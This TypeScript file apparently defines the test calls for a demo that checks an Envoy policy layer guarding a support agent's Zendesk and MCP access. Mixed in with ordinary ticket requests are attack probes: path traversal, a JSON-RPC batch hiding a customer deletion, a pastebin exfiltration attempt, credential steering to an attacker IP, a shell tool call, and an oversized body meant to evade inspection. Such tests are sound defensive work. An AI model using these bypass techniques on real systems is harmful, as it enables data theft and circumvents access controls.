// What the demo's agent does, in order: REST calls made with curl, then one MCP
// session with the official SDK client. The calls are the example's test
// suite (examples/support-agent/support-agent.test.yaml) made for real, minus
// the cases that set the clock (the real Envoy decides at the real time), plus
// one attempt to steer the Zendesk credential to another address.

/** One curl run as the agent. URLs are http://: the pod originates TLS to api.zendesk.com. */
export interface RestCall {
  readonly method: string;
  readonly url: string;
  /** A JSON body (sent with content-type: application/json). */
  readonly json?: unknown;
  /** Send the request to this address instead of the URL host's (curl --connect-to): steering. */
  readonly connectTo?: 'attacker';
  /** What the call is, shown under the row when the URL alone does not say it. */
  readonly note?: string;
}

export const REST_CALLS: readonly RestCall[] = [
  { method: 'GET', url: 'http://api.zendesk.com/api/v2/tickets/4711' },
  { method: 'GET', url: 'http://api.zendesk.com/api/v2/search/tickets?query=refund' },
  { method: 'GET', url: 'http://api.zendesk.com/api/v2/tickets?per_page=50' },
  { method: 'GET', url: 'http://api.zendesk.com/api/v2/tickets?per_page=1000' },
  { method: 'POST', url: 'http://api.zendesk.com/api/v2/tickets', json: { ticket: { type: 'question', customer_tier: 'premium', subject: 'Where is my order?' } } },
  { method: 'POST', url: 'http://api.zendesk.com/api/v2/tickets', json: { ticket: { type: 'problem', customer_tier: 'premium' } } },
  { method: 'PUT', url: 'http://api.zendesk.com/api/v2/tickets/4711', json: { ticket: { type: 'incident', customer_tier: 'enterprise' } } },
  { method: 'POST', url: 'http://api.zendesk.com/api/v2/tickets', note: 'no body' },
  { method: 'DELETE', url: 'http://api.zendesk.com/api/v2/tickets/4711' },
  { method: 'GET', url: 'http://billing.internal/v1/invoices' },
  { method: 'POST', url: 'http://api.stripe.com/v1/refunds' },
  { method: 'GET', url: 'http://api.zendesk.com/api/v2/billing/invoices' },
  { method: 'GET', url: 'http://api.zendesk.com/api/v2/tickets/../billing/invoices' },
  { method: 'GET', url: 'http://api.zendesk.com/api/v2/tickets/1%2F..%2F..%2Fbilling' },
  { method: 'GET', url: 'http://eu.crm.internal/customers/C-17' },
  {
    method: 'POST', url: 'http://mcp.support.internal/mcp', note: 'a JSON-RPC batch hiding delete_customer',
    json: [{ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'delete_customer', arguments: { id: 'C-17' } } }],
  },
  { method: 'POST', url: 'http://pastebin.com/api/api_post.php' },
  { method: 'GET', url: 'http://api.zendesk.com/api/v2/tickets/4711', connectTo: 'attacker', note: 'aimed at another IP (the attacker\'s) with Host: api.zendesk.com: Envoy routes by the name it decided on, never by the IP the agent chose' },
];

/** One tools/call of the MCP session. */
export interface ToolCall {
  readonly name: string;
  readonly arguments: Readonly<Record<string, unknown>>;
  /** Grow argument `key` to `bytes` characters (a body larger than Envoy hands to the sidecar whole). */
  readonly fill?: { readonly key: string; readonly bytes: number };
}

export const MCP_URL = 'http://mcp.support.internal/mcp';

/** Over the injector's default maxRequestBytes (1 MiB): the sidecar sees a partial body. */
const LARGER_THAN_ENVOY_BUFFERS = 1200 * 1024;

export const MCP_TOOL_CALLS: readonly ToolCall[] = [
  { name: 'issue_refund', arguments: { order: 'O-1', amount: 25, currency: 'EUR' } },
  { name: 'issue_refund', arguments: { order: 'O-1', amount: 500, currency: 'EUR' } },
  { name: 'search_knowledge_base', arguments: { query: '*', limit: 5000 } },
  { name: 'delete_customer', arguments: { id: 'C-17' } },
  { name: 'run_shell', arguments: { cmd: 'id' } },
  { name: 'issue_refund', arguments: { order: 'O-2', amount: 10, currency: 'EUR' } },
  { name: 'issue_refund', arguments: { order: 'O-3', amount: 10, currency: 'EUR' } },
  { name: 'issue_refund', arguments: { order: 'O-4', amount: 10, currency: 'EUR' } },
  { name: 'search_knowledge_base', arguments: { query: '' }, fill: { key: 'query', bytes: LARGER_THAN_ENVOY_BUFFERS } },
];
